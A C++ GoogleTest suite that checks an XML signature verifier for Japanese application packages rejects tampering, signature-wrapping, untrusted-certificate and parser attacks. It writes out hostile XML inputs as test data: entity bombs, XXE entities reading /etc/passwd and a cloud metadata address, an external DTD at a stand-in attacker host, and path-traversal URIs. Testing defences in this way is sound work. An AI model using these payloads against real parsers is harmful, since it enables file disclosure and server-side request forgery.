// Every attack of security-and-reliability.md §3 that applies to applicant signatures, each
// rejected for the right reason (the error's field names the check).
#include <gtest/gtest.h>

#include <sstream>

#include "test_support.hpp"
#include "todoke/common/encoding.hpp"
#include "todoke/common/zip.hpp"
#include "todoke/signing/verifier.hpp"

namespace todoke::signing {
namespace {

using testing::TestNow;

constexpr const char* kForm = "495000020325029841_01.xml";

class VerifierAttackTest : public ::testing::Test {
  protected:
    void SetUp() override {
        std::vector<SigningKey> keys{signer_};
        kousei_ = *SignKousei(testing::KouseiXml({kForm}), {{kForm, testing::FormXml()}}, keys,
                              TestNow());
        ASSERT_EQ(Check(kousei_), "");
    }

    // Verifies a package made of this kousei.xml and the files; returns the failed check.
    std::string Check(const std::string& kousei,
                      std::map<std::string, std::string> files = {{kForm, testing::FormXml()}},
                      const VerifyOptions& options = {}) {
        const std::string zip = testing::MakePackage(kousei, files);
        auto r = VerifyApplicationPackage(zip, trust_, TestNow(), options);
        last_message_ = r ? "" : r.error().message;
        return r ? "" : r.error().field;
    }

    // kousei_ with the first occurrence of `from` replaced by `to`.
    std::string Edit(const std::string& from, const std::string& to) const {
        std::string s = kousei_;
        const auto at = s.find(from);
        EXPECT_NE(at, std::string::npos) << from;
        if (at != std::string::npos) s.replace(at, from.size(), to);
        return s;
    }
    std::string Between(const std::string& open, const std::string& close) const {
        const auto a = kousei_.find(open);
        const auto b = kousei_.find(close, a);
        return kousei_.substr(a, b + close.size() - a);
    }
    std::string SignedKousei() const { return Between("<構成情報 ID=", "</構成情報>"); }
    std::string Signature() const { return Between("<Signature ", "</Signature>"); }
    std::string SignedInfo() const { return Between("<SignedInfo>", "</SignedInfo>"); }

    testing::TempDir dir_;
    testing::TestPki pki_{dir_.path()};
    testing::IssuedCert ca_ = pki_.Issue("ca", {.common_name = "Test CA", .is_ca = true}, nullptr);
    SigningKey signer_ = testing::LoadKey(pki_.Issue("s1", {}, &ca_));
    TrustStore trust_ = *TrustStore::FromPemFiles({ca_.cert_path});
    std::string kousei_;
    std::string last_message_;
};

// --- tampering -------------------------------------------------------------------------------

TEST_F(VerifierAttackTest, ChangedFormFileIsADigestMismatch) {
    EXPECT_EQ(Check(kousei_, {{kForm, testing::FormXml("偽造　次郎")}}),
              "signature.digest_mismatch");
    EXPECT_NE(last_message_.find(kForm), std::string::npos);
}

TEST_F(VerifierAttackTest, ChangedKouseiIsADigestMismatch) {
    EXPECT_EQ(Check(Edit("見本　太郎", "偽造　次郎")), "signature.digest_mismatch");
}

TEST_F(VerifierAttackTest, ChangedSignedInfoFailsTheSignatureValue) {
    EXPECT_EQ(Check(Edit("<DigestValue>", "<DigestValue>AAAA")), "signature.structure");
    const std::string si = SignedInfo();
    std::string forged = si;
    forged.replace(forged.find("_01.xml"), 7, "_02.xml");
    EXPECT_EQ(Check(Edit(si, forged), {{kForm, testing::FormXml()},
                                       {"495000020325029841_02.xml", testing::FormXml()}}),
              "signature.value");
}

TEST_F(VerifierAttackTest, RemovedSignatureAndUnsignedForm) {
    EXPECT_EQ(Check(Edit(Signature(), "")), "signature.missing");
    // A second form listed in kousei but not referenced by the signature would be unsigned;
    // the kousei digest already breaks, and a signature without the form reference is refused.
    EXPECT_EQ(Check(testing::KouseiXml({kForm})), "signature.missing");
}

// --- trust -----------------------------------------------------------------------------------

TEST_F(VerifierAttackTest, EmbeddedUnpinnedKeyIsNotTrusted) {  // §3 #30, CVE-2024-32962
    auto rogue_ca =
        pki_.Issue("rogue", {.common_name = "Rogue CA", .is_ca = true, .key_slot = 7}, nullptr);
    std::vector<SigningKey> keys{testing::LoadKey(pki_.Issue("r", {.key_slot = 8}, &rogue_ca))};
    auto forged =
        SignKousei(testing::KouseiXml({kForm}), {{kForm, testing::FormXml()}}, keys, TestNow());
    EXPECT_EQ(Check(*forged), "certificate.untrusted");
    // A self-signed signer is no better.
    std::vector<SigningKey> self{
        testing::LoadKey(pki_.Issue("self", {.common_name = "Self", .key_slot = 10}, nullptr))};
    EXPECT_EQ(Check(*SignKousei(testing::KouseiXml({kForm}), {{kForm, testing::FormXml()}}, self,
                                TestNow())),
              "certificate.untrusted");
}

TEST_F(VerifierAttackTest, ACertificateSeenBeforeIsCheckedAgainEachTime) {
    // Parsed certificates are shared by their DER bytes (crypto.cpp); what is checked of them
    // (validity at this moment, the chain to these anchors) is not.
    const std::string zip = testing::MakePackage(kousei_, {{kForm, testing::FormXml()}});
    ASSERT_TRUE(VerifyApplicationPackage(zip, trust_, TestNow()));
    EXPECT_EQ(VerifyApplicationPackage(zip, trust_, TestNow() + std::chrono::hours(24 * 400))
                  .error()
                  .field,
              "certificate.expired");
    auto other_ca =
        pki_.Issue("other", {.common_name = "Other CA", .is_ca = true, .key_slot = 7}, nullptr);
    auto other = TrustStore::FromPemFiles({other_ca.cert_path.string()});
    ASSERT_TRUE(other);
    EXPECT_EQ(VerifyApplicationPackage(zip, *other, TestNow()).error().field,
              "certificate.untrusted");
    EXPECT_TRUE(VerifyApplicationPackage(zip, trust_, TestNow()));
}

TEST_F(VerifierAttackTest, ExpiredKeyUsageAndWeakKeysAreRefused) {  // §3 #32
    const std::string zip = testing::MakePackage(kousei_, {{kForm, testing::FormXml()}});
    auto later = VerifyApplicationPackage(zip, trust_, TestNow() + std::chrono::hours(24 * 400));
    EXPECT_EQ(later.error().field, "certificate.expired");

    // The same key (slot 0, the fixture's signer) in a certificate whose key usage forbids
    // signing: put that certificate in KeyInfo; the signature still verifies with its key.
    auto no_sign = pki_.Issue("enc", {.digital_signature = false}, &ca_);
    std::string der_b64;
    {
        std::istringstream in(no_sign.cert_pem);
        for (std::string line; std::getline(in, line);) {
            if (line.rfind("-----", 0) != 0) der_b64 += line;
        }
    }
    const auto open = kousei_.find("<X509Certificate>") + 17;
    const auto close = kousei_.find("</X509Certificate>");
    std::string k = kousei_;
    k.replace(open, close - open, der_b64);
    EXPECT_EQ(Check(k), "certificate.key_usage");

    auto weak = pki_.Issue("weak", {.rsa_bits = 1024, .key_slot = 9}, &ca_);
    std::vector<SigningKey> weak_keys{testing::LoadKey(weak)};
    EXPECT_EQ(Check(*SignKousei(testing::KouseiXml({kForm}), {{kForm, testing::FormXml()}},
                                weak_keys, TestNow())),
              "certificate.weak_key");
}

// --- parser attacks (§3 #1-8, #37-39) ---------------------------------------------------------

TEST_F(VerifierAttackTest, DoctypesAndEntitiesAreRefusedBeforeParsing) {
    const std::string decl = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n";
    const std::string body = kousei_.substr(kousei_.find("<?xml-stylesheet"));
    const std::string bombs[] = {
        "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;\">]>\n",
        "<!DOCTYPE d [<!ENTITY a \"" + std::string(100000, 'a') + "\">]>\n",
        "<!DOCTYPE d [<!ENTITY a \"&b;\"><!ENTITY b \"&a;\">]>\n",
        "<!DOCTYPE d [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n",
        "<!DOCTYPE d [<!ENTITY xxe SYSTEM \"http://169.254.169.254/\">]>\n",
        "<!DOCTYPE d [<!ENTITY % remote SYSTEM \"http://attacker/evil.dtd\"> %remote;]>\n",
        "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" "
        "\"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">\n",
    };
    for (const auto& doctype : bombs) EXPECT_EQ(Check(decl + doctype + body), "xml.doctype");
}

TEST_F(VerifierAttackTest, XIncludeIsRefused) {
    EXPECT_EQ(Check(Edit("</DataRoot>",
                         "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" "
                         "href=\"file:///etc/passwd\"/></DataRoot>")),
              "xml.forbidden_node");
}

TEST_F(VerifierAttackTest, DepthMalformedAndEncodingAttacks) {
    std::string deep;
    for (int i = 0; i < 80; ++i) deep += "<d>";
    for (int i = 0; i < 80; ++i) deep += "</d>";
    EXPECT_EQ(Check(Edit("<管理情報>", "<管理情報>" + deep)), "xml.too_deep");
    EXPECT_EQ(Check(Edit("<構成情報 ID=\"構成情報\"", "<構成情報 ID=\"構成情報\" a=\"1\" a=\"2\"")),
              "xml.malformed");
    EXPECT_EQ(Check(kousei_ + "<DataRoot/>"), "xml.malformed");
    EXPECT_EQ(Check(Edit("見本", "\xE8\xA6")), "xml.encoding");
    EXPECT_EQ(Check(Edit("encoding=\"UTF-8\"", "encoding=\"Shift_JIS\"")), "xml.encoding");
    EXPECT_EQ(Check("\xFF\xFE<\0D\0"), "xml.encoding");
    VerifyOptions small;
    small.xml_limits.max_bytes = 2048;
    EXPECT_EQ(Check(kousei_, {{kForm, testing::FormXml()}}, small), "xml.too_large");
}

// --- wrapping and ID attacks (§3 #9-16, #20-22) -----------------------------------------------

TEST_F(VerifierAttackTest, ForgedKouseiWithTheOriginalMovedIntoObjectIsRefused) {  // #9, #11
    const std::string forged = "<構成情報 ID=\"構成情報\"><申請種別>偽造</申請種別></構成情報>";
    std::string k = Edit(SignedKousei(), forged);
    const std::string wrapped = "<Object>" + SignedKousei() + "</Object></Signature>";
    k.replace(k.find("</Signature>"), 12, wrapped);
    // Both the moved copy (an ID where none may stand) and its repeated value are refused;
    // the walk meets the misplaced ID first.
    EXPECT_EQ(Check(k), "xml.unexpected_id");
}

TEST_F(VerifierAttackTest, ForgedSiblingOrWrapperIsRefused) {  // #10, #12
    EXPECT_EQ(Check(Edit("<構成情報 ID=", "<構成情報 ID=\"x\"><a/></構成情報><構成情報 ID=")),
              "package.layout");
    EXPECT_EQ(
        Check(Edit(SignedKousei(), "<構成情報><その他>" + SignedKousei() + "</その他></構成情報>")),
        "xml.unexpected_id");
    EXPECT_EQ(Check(Edit(SignedKousei(), SignedKousei() + "<構成情報/>")), "package.layout");
}

TEST_F(VerifierAttackTest, DuplicateIdValuesAreRefused) {  // #13
    EXPECT_EQ(Check(Edit("Id=\"20261122090000\"", "Id=\"構成情報\"")), "xml.duplicate_id");
}

TEST_F(VerifierAttackTest, SignaturePartsOutsideSignedInfoAreRefused) {  // #14
    EXPECT_EQ(Check(Edit("<管理情報>",
                         "<管理情報><DigestValue xmlns=\"http://www.w3.org/2000/09/"
                         "xmldsig#\">AAAA</DigestValue>")),
              "signature.placement");
    EXPECT_EQ(Check(Edit("<SignatureValue>", "<Reference URI=\"x\"/><SignatureValue>")),
              "signature.structure");
}

TEST_F(VerifierAttackTest, TwoOrWrappedSignedInfoAreRefused) {  // #15, #16, #19
    EXPECT_EQ(Check(Edit("<SignatureValue>", SignedInfo() + "<SignatureValue>")),
              "signature.structure");
    EXPECT_EQ(Check(Edit(SignedInfo(), "<Wrapper>" + SignedInfo() + "</Wrapper>")),
              "signature.structure");
    EXPECT_EQ(Check(Edit(SignedInfo(), "")), "signature.structure");
    EXPECT_EQ(Check(Edit(SignedInfo(), "<SignedInfo></SignedInfo>")), "signature.structure");
}

TEST_F(VerifierAttackTest, CommentsInDigestOrSignedElementAreRefused) {  // #17, #18
    EXPECT_EQ(Check(Edit("<DigestValue>", "<DigestValue><!-- x -->")), "signature.structure");
    EXPECT_EQ(Check(Edit("<手続ID>49500000", "<手続ID>4950<!---->0000")), "xml.comment_in_signed");
    EXPECT_EQ(Check(Edit("<申請種別>", "<?pi x?><申請種別>")), "xml.comment_in_signed");
}

TEST_F(VerifierAttackTest, SignaturesInUnexpectedPlacesAreRefused) {  // #20, #21
    std::string planted = Signature();
    planted.erase(planted.find(" Id=\"20261122090000\""), 20);
    EXPECT_EQ(Check(Edit("</管理情報>", "</管理情報>" + planted)), "signature.placement");
    EXPECT_EQ(Check(Edit("</管理情報>", "</管理情報>" + Signature())), "xml.unexpected_id");
    EXPECT_EQ(Check(Edit("<署名情報>", "<署名情報><Other/>")), "signature.placement");
    std::string before = kousei_;
    const std::string sig_block = Between("<署名情報>", "</署名情報>");
    before.erase(before.find(sig_block), sig_block.size());
    before.insert(before.find("<構成情報 ID="), sig_block);
    EXPECT_EQ(Check(before), "signature.placement");
    EXPECT_EQ(Check(Edit("</Signature>", "</Signature><Signature xmlns=\"urn:not-dsig\"/>")),
              "signature.placement");
}

TEST_F(VerifierAttackTest, ReferenceToAnotherIdOrXPointerIsRefused) {  // #22, #23
    EXPECT_EQ(Check(Edit("#%E6%A7%8B%E6%88%90%E6%83%85%E5%A0%B1", "#other")),
              "signature.reference_uri");
    EXPECT_EQ(Check(Edit("#%E6%A7%8B%E6%88%90%E6%83%85%E5%A0%B1", "#xpointer(/)")),
              "signature.reference_uri");
    EXPECT_EQ(Check(Edit("#%E6%A7%8B%E6%88%90%E6%83%85%E5%A0%B1",
                         "#xpointer(id('%E6%A7%8B%E6%88%90%E6%83%85%E5%A0%B1'))")),
              "signature.reference_uri");
    EXPECT_EQ(Check(Edit("URI=\"#%E6%A7%8B%E6%88%90%E6%83%85%E5%A0%B1\"", "URI=\"\"")),
              "signature.reference_uri");
}

TEST_F(VerifierAttackTest, ExternalAndEscapingFileReferencesAreRefused) {  // #24
    for (const std::string uri :
         {"file:///etc/passwd", "http://169.254.169.254/latest", "../kousei.xml", "..%2Fkousei.xml",
          "sub/form.xml", "a%00b.xml"}) {
        EXPECT_EQ(Check(Edit("URI=\"495000020325029841_01.xml\"", "URI=\"" + uri + "\"")),
                  "signature.reference_uri")
            << uri;
    }
    // A signed reference to a file the ZIP does not hold.
    EXPECT_EQ(Check(kousei_, {}), "signature.reference_uri");
}

// --- transform, algorithm and KeyInfo attacks (§3 #25-35) -------------------------------------

TEST_F(VerifierAttackTest, XsltXPathAndTooManyTransformsAreRefused) {  // #25-27
    const std::string c14n =
        "<Transform Algorithm=\"http://www.w3.org/TR/2001/REC-xml-c14n-20010315\"></Transform>";
    EXPECT_EQ(Check(Edit(c14n,
                         "<Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xslt-19991116\">"
                         "<xsl:stylesheet xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"/>"
                         "</Transform>")),
              "signature.structure");
    EXPECT_EQ(
        Check(Edit(c14n, "<Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xslt-19991116\"/>")),
        "signature.transform");
    EXPECT_EQ(Check(Edit(c14n,
                         "<Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xpath-19991116\">"
                         "<XPath>1</XPath></Transform>")),
              "signature.structure");
    EXPECT_EQ(
        Check(Edit(c14n, "<Transform Algorithm=\"http://www.w3.org/2002/06/xmldsig-filter2\"/>")),
        "signature.transform");
    std::string six;
    for (int i = 0; i < 6; ++i) six += c14n;
    EXPECT_EQ(Check(Edit(c14n, six)), "signature.transform");
    VerifyOptions one_ref;
    one_ref.signature_limits.max_references = 1;
    EXPECT_EQ(Check(kousei_, {{kForm, testing::FormXml()}}, one_ref), "signature.limits");
}

TEST_F(VerifierAttackTest, ManifestObjectAndRetrievalMethodAreRefused) {  // #28, #29
    EXPECT_EQ(Check(Edit("</KeyInfo>", "</KeyInfo><Object><Manifest/></Object>")),
              "signature.structure");
    EXPECT_EQ(Check(Edit("<KeyInfo>", "<KeyInfo><RetrievalMethod URI=\"http://x/\"/>")),
              "signature.key_info");
}

TEST_F(VerifierAttackTest, KeyValueBesideTheCertificateIsRefused) {  // #31
    EXPECT_EQ(Check(Edit("<KeyInfo>", "<KeyInfo><KeyValue><RSAKeyValue/></KeyValue>")),
              "signature.key_info");
}

TEST_F(VerifierAttackTest, HmacSha1Md5AndUnknownAlgorithmsAreRefused) {  // #33, #34
    const std::string rsa =
        "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256\"></SignatureMethod>";
    EXPECT_EQ(Check(Edit(rsa,
                         "http://www.w3.org/2000/09/xmldsig#hmac-sha1\"><HMACOutputLength>1"
                         "</HMACOutputLength></SignatureMethod>")),
              "signature.structure");
    EXPECT_EQ(Check(Edit(rsa, "http://www.w3.org/2000/09/xmldsig#hmac-sha1\"></SignatureMethod>")),
              "signature.algorithm");
    EXPECT_EQ(Check(Edit(rsa, "http://www.w3.org/2000/09/xmldsig#rsa-sha1\"></SignatureMethod>")),
              "signature.algorithm");
    EXPECT_EQ(Check(Edit("http://www.w3.org/2001/04/xmlenc#sha256",
                         "http://www.w3.org/2000/09/xmldsig#sha1")),
              "signature.algorithm");
    EXPECT_EQ(Check(Edit("http://www.w3.org/2001/04/xmlenc#sha256",
                         "http://www.w3.org/2001/04/xmldsig-more#md5")),
              "signature.algorithm");
    EXPECT_EQ(Check(Edit("REC-xml-c14n-20010315\"></CanonicalizationMethod>",
                         "REC-xml-c14n-20010315#WithComments\"></CanonicalizationMethod>")),
              "signature.algorithm");
}

TEST_F(VerifierAttackTest, WrongLengthSignatureValueIsRefused) {  // #35
    EXPECT_EQ(Check(Edit("<SignatureValue>", "<SignatureValue>AAAA")), "signature.value");
}

TEST_F(VerifierAttackTest, NamespaceGamesAreRefused) {  // #36
    EXPECT_EQ(Check(Edit("<SignedInfo>", "<SignedInfo xmlns=\"urn:evil\">")),
              "signature.structure");
    // The right local name under a ds prefix bound to another namespace is not a signature.
    EXPECT_EQ(Check(Edit(Signature(), "<ds:Signature xmlns:ds=\"urn:evil\"/>")),
              "signature.placement");
}

TEST_F(VerifierAttackTest, ZipLimitsApplyBeforeAnythingIsParsed) {  // #40
    VerifyOptions few;
    few.zip_limits.max_entries = 2;
    EXPECT_EQ(Check(kousei_, {{kForm, testing::FormXml()}, {"a.pdf", "x"}}, few),
              "zip.too_many_entries");
}

}  // namespace
}  // namespace todoke::signing
